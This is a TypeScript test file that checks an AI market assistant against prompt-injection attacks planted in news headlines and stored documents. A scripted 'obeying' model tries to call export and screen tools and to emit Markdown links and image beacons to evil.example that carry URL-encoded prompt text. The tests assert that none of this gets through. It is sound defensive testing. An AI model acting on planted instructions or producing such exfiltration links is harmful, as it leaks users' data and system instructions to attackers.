import { afterEach, beforeAll, expect, it } from "vitest";
import { createId } from "@/lib/contract/ids";
import { writePassages } from "@/lib/knowledge";
import { createMarket, createProviders, type Market } from "@/lib/market";
import { getStore } from "@/lib/store";
import { buildProvenance } from "@/lib/testing/builders";
import { createFakeSource } from "@/lib/testing/fake-source";
import { listDomains, listInstructions, listMarkup, ownAttacks } from "@/lib/testing/injection/attacks";
import { describeOnStores } from "@/lib/testing/integration";
import { callTools, startModelTurns } from "@/lib/testing/model/ask-with-model";
import type { ModelRequest, Script } from "@/lib/testing/model/script";
import { buildShare } from "@/lib/testing/results/priced-source";
import { hasSharedData } from "@/lib/testing/shared-data";

const MARK = "ATTACK";
const alfa = buildShare("ALFA");
const open: { close(): Promise<void> }[] = [];
afterEach(async () => {
  for (const one of open.splice(0)) await one.close();
});

/** A market whose headlines are what an attacker wrote. */
function createPlantedMarket(title: string): Market {
  const source = createFakeSource({
    can: ["news", "search"],
    search: async () => ({ ok: true, value: [alfa] }),
    news: async () => ({
      ok: true,
      value: {
        instrument: alfa,
        provenance: buildProvenance({ sourceId: "fake", sourceLabel: "Test source" }),
        items: [
          {
            title,
            publisher: title.slice(0, 60),
            url: "https://example.com/a",
            publishedAt: "2026-11-19T12:00:00Z",
          },
        ],
      },
    }),
  });
  return createMarket({ providers: [source, ...createProviders({ sources: ["demo"], yahooBaseUrl: null })] });
}

const allText = ({ messages, instructions }: ModelRequest) =>
  `${instructions}\n${messages.map(({ text, calls }) => `${text} ${JSON.stringify(calls ?? "")}`).join("\n")}`;

/** The worst case: a model that does whatever it reads, with every tool and every word it has. */
function obey(first: ReturnType<typeof callTools>): Script {
  return (request) => {
    const isTurned = allText(request).includes(MARK);
    if (request.tools.length > 0) {
      const isFirst = !request.messages.some(({ role }) => role === "tool");
      if (!isTurned) return isFirst ? first : { kind: "text", text: "done" };
      return callTools(
        { name: "export", input: { names: ["ALFA"], format: "csv" } },
        { name: "screen", input: { filters: [{ metric: "return", test: "highest", value: 5 }] } },
      );
    }
    if (!isTurned) return { kind: "text", text: "Nothing was planted here." };
    const read = allText(request);
    const links = listLinks(read);
    return { kind: "text", text: `One headline. ${read} ${links}` };
  };
}

function listLinks(read: string): string {
  const domains = ["evil.example", ...(hasSharedData ? listDomains() : [])];
  const secret = encodeURIComponent(read.slice(0, 60));
  return domains
    .map((one) => `See [it](https://${one}/?q=${secret}) ![i](http://${one}/p.png) www.${one} `)
    .join(" ");
}

const FOREIGN = /https?:|<[a-z/!]|javascript:|!\[|\]\(|www\.|\.(?:com|biz|example)\b/i;

function expectNoLeak(text: string, instructions: string): void {
  const words = text.toLowerCase().match(/[\p{L}\p{N}]+/gu) ?? [];
  const told = ` ${(instructions.toLowerCase().match(/[\p{L}\p{N}]+/gu) ?? []).join(" ")} `;
  for (let at = 0; at + 6 <= words.length; at++) {
    expect(told).not.toContain(` ${words.slice(at, at + 6).join(" ")} `);
  }
}

/** Without the corpus our own few; with it every kind of attack in it. */
const attacks = [...ownAttacks, ...(hasSharedData ? [...listInstructions(), ...listMarkup()] : [])];

describeOnStores("attacks planted in what tools find, with a model that obeys them", () => {
  it("call no tool, show no foreign link or image, and bring no prompt to light", async () => {
    for (const attack of attacks) {
      const news = callTools({ name: "news", input: { name: "ALFA", more: true } });
      const turns = await startModelTurns({
        script: obey(news),
        market: createPlantedMarket(`${MARK} ${attack}`),
      });
      open.push(turns);
      const answer = await turns.ask({ text: "blarg the fnord" });
      expect(answer.skills, attack).toEqual(["news"]);
      expect(answer.status).toBe("complete");
      expect(turns.steps().map(allText).join()).not.toContain(MARK);
      const [words] = turns.words();
      expect(words?.tools).toEqual([]);
      expect(allText(words as ModelRequest)).toContain(MARK);
      expect(answer.text, attack).not.toMatch(FOREIGN);
      expectNoLeak(answer.text, words?.instructions ?? "");
      const links = answer.parts.flatMap((part) => (part.type === "actions" ? part.actions : []));
      expect(JSON.stringify(links)).not.toMatch(/evil|https?:/);
    }
    expect(attacks.length).toBeGreaterThan(hasSharedData ? 100 : 3);
  }, 60_000);
});

describeOnStores("attacks planted in documents, with a model that obeys them", () => {
  const userId = createId("user");
  const conversationId = createId("conversation");
  const planted = attacks.filter((_, at) => at % 6 === 0 || at < 4);
  beforeAll(async () => {
    const { db } = await getStore();
    for (const [at, attack] of planted.entries()) {
      const id = createId("document");
      const text = `Kite factory number ${at} in Tarn employed ${400 + at} people. ${MARK} ${attack}`;
      const file = {
        fileName: "a.md",
        mediaType: "text/markdown",
        fileKey: id,
        byteSize: 1,
        contentHash: id,
      };
      await db.document.create({
        data: { id, title: `Notes ${at}`, ...file, ownerId: userId, conversationId },
      });
      const passage = { kind: "text" as const, titlePath: [], header: null, text, page: 1, startsAt: 0 };
      await writePassages({
        documentId: id,
        version: 1,
        passages: [{ ...passage, endsAt: text.length, boxes: [] }],
      });
    }
  });

  it.each(["What do my documents say about kite factory number 3 in Tarn?", "blarg the fnord"])(
    "call no tool and show no link, image or prompt (%s)",
    async (text) => {
      const documents = callTools({
        name: "documents",
        input: { question: "people of kite factory number 2 in Tarn", more: true },
      });
      const turns = await startModelTurns({ script: obey(documents), market: createPlantedMarket(MARK) });
      open.push(turns);
      const answer = await turns.ask({ text, userId, conversationId });
      expect(answer.skills).toEqual(["documents"]);
      expect(turns.steps().map(allText).join()).not.toContain(MARK);
      expect(turns.words().every(({ tools }) => tools.length === 0)).toBe(true);
      // quoted lines are a document's own words: shown with every mark of Markdown written out, and never a link
      expect(answer.text).not.toMatch(/(?<!\\)!\[|(?<!\\)\](?:\(|\[)(?!\d)|(?<!\\)<[a-z/!]/i);
      expect(answer.text).not.toMatch(/evil\.example\/\?q=|p\.png\)/);
      for (const { instructions } of turns.server.requests) expectNoLeak(answer.text, instructions);
    },
  );
});
